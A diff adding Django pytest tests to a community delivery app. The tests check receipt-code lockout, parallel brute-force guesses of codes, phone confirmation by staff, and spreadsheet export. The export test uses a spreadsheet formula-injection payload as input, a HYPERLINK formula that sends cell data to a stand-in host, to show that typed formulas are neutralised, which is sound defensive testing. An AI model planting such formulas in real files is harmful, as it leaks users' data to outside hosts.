@@ -99,7 +99,7 @@ def test_a_run_from_gathering_to_closed(crew, gateway):
     assert run.status == "delivering" and len(codes) == 3
     assert not DeliveryStop.objects.filter(run=run, code_hash="").exists()
 
-    assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=first, code="000000x") == "deliveries.code_wrong"
+    assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=first, code="000000x") == "deliveries.code_format"
     stops.stop_confirm_code(actor=crew.runner.user, stop=first, code=codes[households[0].tracking_no])
     stops.stop_confirm_by_resident(tracking_no=households[1].tracking_no, tracking_code=households[1].tracking_code)
     demand = Demand.objects.get(pk=households[0].pk)
@@ -208,9 +208,12 @@ def test_wrong_receipt_codes_are_limited_per_household(crew, gateway):
     stop = DeliveryStop.objects.get(run=run)
     right = _codes(gateway)[demand.tracking_no]
     wrong = "000000" if right != "000000" else "111111"
+    for typo in ("abc", "12345", "1234567", ""):  # not six digits: a typo, not a guess
+        assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=stop, code=typo) == "deliveries.code_format"
     for _ in range(stops.CODE_TRIES):
         assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=stop, code=wrong) == "deliveries.code_wrong"
-    assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=stop, code=right) == "rate_limited"
+    assert DeliveryStop.objects.get(pk=stop.pk).code_tries == stops.CODE_TRIES  # kept although each one raised
+    assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=stop, code=right) == "deliveries.code_locked"
     # the resident can still confirm on the tracking page
     stops.stop_confirm_by_resident(tracking_no=demand.tracking_no, tracking_code=demand.tracking_code)
     assert DeliveryRun.objects.get(pk=run.pk).status == "closed"
@@ -302,3 +305,66 @@ def test_the_last_households_confirming_at_once_close_the_run_once(settings):
     assert DeliveryRun.objects.get(pk=run.pk).status == "closed"
     assert AuditEntry.objects.filter(action="delivery.close").count() == 1
     assert Demand.objects.filter(pk__in=[d.pk for d in demands], status="completed").count() == 6
+
+
+@pytest.mark.django_db(transaction=True, serialized_rollback=True)
+def test_parallel_guesses_of_a_receipt_code_get_five_tries_in_all(settings):
+    settings.WENMING_NOTIFY_BACKEND = "wenming.core.notify.FakeSmsGateway"
+    world = build_world()
+    runner = volunteer_user(world, "runner1", phone="13700000001")
+    run = run_with(world, [reviewed_purchase(world, 1)], [runner])
+    services.run_start_purchase(actor=world.manager_a, run=run)
+    services.run_start_delivery(actor=world.manager_a, run=run)
+    stop = DeliveryStop.objects.select_related("run__node", "demand").get(run=run)
+    guesses = [f"{n:06d}" for n in range(40)]
+    results = storm([lambda g=g: stops.stop_confirm_code(actor=runner.user, stop=stop, code=g).status
+                     for g in guesses], threads=20)
+    wrong = results.count("deliveries.code_wrong") + results.count("confirmed")
+    assert wrong == stops.CODE_TRIES  # five compared in all, whatever the parallelism
+    assert results.count("deliveries.code_locked") == len(guesses) - stops.CODE_TRIES
+    assert DeliveryStop.objects.get(pk=stop.pk).code_tries <= stops.CODE_TRIES
+
+
+def test_staff_confirm_a_household_without_sms_by_phone_call(crew):
+    demand = reviewed_purchase(crew, 1)
+    run = run_with(crew, [demand], [crew.runner])
+    services.run_start_purchase(actor=crew.manager_a, run=run)
+    services.run_start_delivery(actor=crew.manager_a, run=run)
+    stop = DeliveryStop.objects.get(run=run)
+    assert _code(stops.stop_confirm_by_call, actor=crew.runner.user, stop=stop, note="x") == "deliveries.not_member"
+    assert _code(stops.stop_confirm_by_call, actor=crew.manager_a, stop=stop, note=" ") == "deliveries.reason_required"
+    stop = stops.stop_confirm_by_call(actor=crew.manager_a, stop=stop, note="电话回访，老人确认已收到")
+    assert (stop.status, stop.confirmed_via, stop.confirm_note) == ("confirmed", "staff_call", "电话回访，老人确认已收到")
+    assert _status(demand) == "completed" and DeliveryRun.objects.get(pk=run.pk).status == "closed"
+
+
+def test_a_volunteer_who_is_withdrawn_loses_the_run(crew):
+    from wenming.volunteers.services import volunteer_set_status
+
+    run = run_with(crew, [reviewed_purchase(crew, 1)], [crew.runner])
+    services.run_start_purchase(actor=crew.manager_a, run=run)
+    assert stops.stop_contacts_reveal(actor=crew.runner.user, run=run)
+    volunteer_set_status(actor=crew.root, volunteer=crew.runner, status="withdrawn")
+    assert _code(stops.stop_contacts_reveal, actor=crew.runner.user, run=run) == "not_found"
+    assert run not in run_list_for_actor(actor=crew.runner.user)
+
+
+def test_runs_are_organised_by_centers_institutes_and_stations_only(crew):
+    for node in (crew.county, crew.point_a, crew.grid_a):
+        assert _code(services.run_create, actor=crew.root, node=node, title="x") == "deliveries.node_invalid"
+    assert services.run_create(actor=crew.root, node=crew.institute, title="茅坪镇代购").pk
+
+
+def test_the_buying_list_export_writes_no_formula_a_resident_typed(crew):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from wenming.deliveries.export import buying_list_workbook
+
+    evil = '=HYPERLINK("http://x.example/?"&C2,"点此")'
+    run = run_with(crew, [reviewed_purchase(crew, 1, [{"name": evil, "quantity": 1, "unit": "@SUM(1)"}])])
+    book = load_workbook(BytesIO(buying_list_workbook(run)))
+    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert "'" + evil in [c.value for c in cells]
